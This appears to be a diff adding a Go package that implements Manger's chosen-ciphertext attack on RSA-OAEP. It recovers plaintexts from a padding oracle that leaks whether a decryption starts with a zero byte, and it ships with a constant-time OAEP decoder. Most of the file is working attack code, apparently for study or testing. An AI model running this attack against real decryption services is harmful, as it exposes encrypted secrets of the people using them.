@@ -0,0 +1,185 @@
+// Package manger implements the chosen ciphertext attack of Manger
+// (CRYPTO 2001) against RSA-OAEP.
+//
+// OAEP encoded messages start with a zero byte. A decryptor that fails
+// differently, or in a different time, when that byte is not zero tells
+// the attacker whether c * f^e decrypts to m * f mod n below B =
+// 2^(8(k-1)). Choosing f so that each answer halves the interval holding
+// m recovers the message in about as many queries as the modulus has
+// bits, much faster than Bleichenbacher's attack on PKCS#1 v1.5. OAEP is
+// only secure if every check of the decoding, the first byte included,
+// fails the same way in constant time.
+package manger
+
+import (
+	"crypto/rsa"
+	"crypto/subtle"
+	"errors"
+	"hash"
+	"math/big"
+)
+
+// Oracle returns true when ciphertext decrypts to a value whose first
+// byte is zero
+type Oracle func(ciphertext []byte) bool
+
+var one = big.NewInt(1)
+
+// ceilDiv returns ceil(x / y) for positive y
+func ceilDiv(x, y *big.Int) *big.Int {
+	q, m := new(big.Int).DivMod(x, y, new(big.Int))
+	if m.Sign() != 0 {
+		q.Add(q, one)
+	}
+	return q
+}
+
+// floorDiv returns floor(x / y) for positive y
+func floorDiv(x, y *big.Int) *big.Int {
+	q, _ := new(big.Int).DivMod(x, y, new(big.Int))
+	return q
+}
+
+// DecryptRaw recovers c^d mod n for a ciphertext that decrypts to a value
+// starting with a zero byte, such as any OAEP ciphertext, with the help of
+// oracle. The result is k bytes long, k being the size of the modulus.
+func DecryptRaw(pub *rsa.PublicKey, ciphertext []byte, oracle Oracle) ([]byte, error) {
+	n := pub.N
+	k := (n.BitLen() + 7) / 8
+	if len(ciphertext) != k {
+		return nil, errors.New("manger: ciphertext size does not match the modulus")
+	}
+	c := new(big.Int).SetBytes(ciphertext)
+	if c.Cmp(n) >= 0 {
+		return nil, errors.New("manger: ciphertext out of range")
+	}
+	b := new(big.Int).Lsh(one, uint(8*(k-1)))
+	if new(big.Int).Lsh(b, 1).Cmp(n) >= 0 {
+		return nil, errors.New("manger: the modulus must be larger than 2B")
+	}
+	e := big.NewInt(int64(pub.E))
+	// below asks the oracle whether f * m < B
+	below := func(f *big.Int) bool {
+		q := new(big.Int).Exp(f, e, n)
+		q.Mul(q, c).Mod(q, n)
+		return oracle(q.FillBytes(make([]byte, k)))
+	}
+	if !below(one) {
+		return nil, errors.New("manger: ciphertext does not decrypt to a value below B")
+	}
+
+	// step 1: double f1 until f1 * m crosses B, then f1/2 * m is in
+	// [B/2, B)
+	f1 := big.NewInt(2)
+	for below(f1) {
+		f1.Lsh(f1, 1)
+		if f1.Cmp(n) > 0 {
+			return nil, errors.New("manger: oracle never crossed B, is it lying?")
+		}
+	}
+	half := new(big.Int).Rsh(f1, 1)
+
+	// step 2: f2 * m goes from below n to [n, n + B) in steps of less
+	// than B, where it wraps to below B
+	f2 := floorDiv(new(big.Int).Add(n, b), b)
+	f2.Mul(f2, half)
+	for !below(f2) {
+		f2.Add(f2, half)
+		if f2.Cmp(n) > 0 {
+			return nil, errors.New("manger: oracle never wrapped, is it lying?")
+		}
+	}
+
+	// step 3: m is in [n / f2, (n + B) / f2), each query halves the
+	// interval
+	nb := new(big.Int).Add(n, b)
+	mmin := ceilDiv(n, f2)
+	mmax := floorDiv(nb, f2)
+	b2 := new(big.Int).Lsh(b, 1)
+	for mmin.Cmp(mmax) < 0 {
+		ftmp := floorDiv(b2, new(big.Int).Sub(mmax, mmin))
+		i := floorDiv(new(big.Int).Mul(ftmp, mmin), n)
+		in := new(big.Int).Mul(i, n)
+		f3 := ceilDiv(in, mmin)
+		bound := in.Add(in, b)
+		if below(f3) {
+			mmax = floorDiv(bound, f3)
+		} else {
+			mmin = ceilDiv(bound, f3)
+		}
+	}
+	if mmin.Cmp(mmax) != 0 {
+		return nil, errors.New("manger: no candidate left, is the oracle lying?")
+	}
+	if new(big.Int).Exp(mmin, e, n).Cmp(c) != 0 {
+		return nil, errors.New("manger: recovered value does not encrypt to the ciphertext")
+	}
+	return mmin.FillBytes(make([]byte, k)), nil
+}
+
+// DecryptOAEP recovers the plaintext of an OAEP ciphertext with the help
+// of oracle
+func DecryptOAEP(h hash.Hash, pub *rsa.PublicKey, ciphertext, label []byte, oracle Oracle) ([]byte, error) {
+	em, err := DecryptRaw(pub, ciphertext, oracle)
+	if err != nil {
+		return nil, err
+	}
+	return unpadOAEP(h, em, label)
+}
+
+// mgf1 xors the MGF1 mask generated from seed into out
+func mgf1(h hash.Hash, seed, out []byte) {
+	var counter [4]byte
+	var digest []byte
+	for done := 0; done < len(out); {
+		h.Reset()
+		h.Write(seed)
+		h.Write(counter[:])
+		digest = h.Sum(digest[:0])
+		for i := 0; i < len(digest) && done < len(out); i++ {
+			out[done] ^= digest[i]
+			done++
+		}
+		for i := 3; i >= 0; i-- {
+			counter[i]++
+			if counter[i] != 0 {
+				break
+			}
+		}
+	}
+}
+
+var errOAEP = errors.New("manger: OAEP decoding error")
+
+// unpadOAEP decodes an OAEP encoded message of RFC 8017 section 7.1.2
+// without leaking which check failed
+func unpadOAEP(h hash.Hash, em, label []byte) ([]byte, error) {
+	hLen := h.Size()
+	if len(em) < 2*hLen+2 {
+		return nil, errOAEP
+	}
+	h.Reset()
+	h.Write(label)
+	lHash := h.Sum(nil)
+	em = append([]byte{}, em...)
+	seed, db := em[1:1+hLen], em[1+hLen:]
+	mgf1(h, db, seed)
+	mgf1(h, seed, db)
+
+	good := subtle.ConstantTimeByteEq(em[0], 0)
+	good &= subtle.ConstantTimeCompare(db[:hLen], lHash)
+	// find the 0x01 separator after the zero padding in constant time
+	lookingForIndex, index, invalid := 1, 0, 0
+	rest := db[hLen:]
+	for i, v := range rest {
+		isZero := subtle.ConstantTimeByteEq(v, 0)
+		isOne := subtle.ConstantTimeByteEq(v, 1)
+		index = subtle.ConstantTimeSelect(lookingForIndex&isOne, i, index)
+		lookingForIndex = subtle.ConstantTimeSelect(isOne, 0, lookingForIndex)
+		invalid = subtle.ConstantTimeSelect(lookingForIndex&^isZero, 1, invalid)
+	}
+	if good&^invalid&^lookingForIndex != 1 {
+		return nil, errOAEP
+	}
+	return rest[index+1:], nil
+}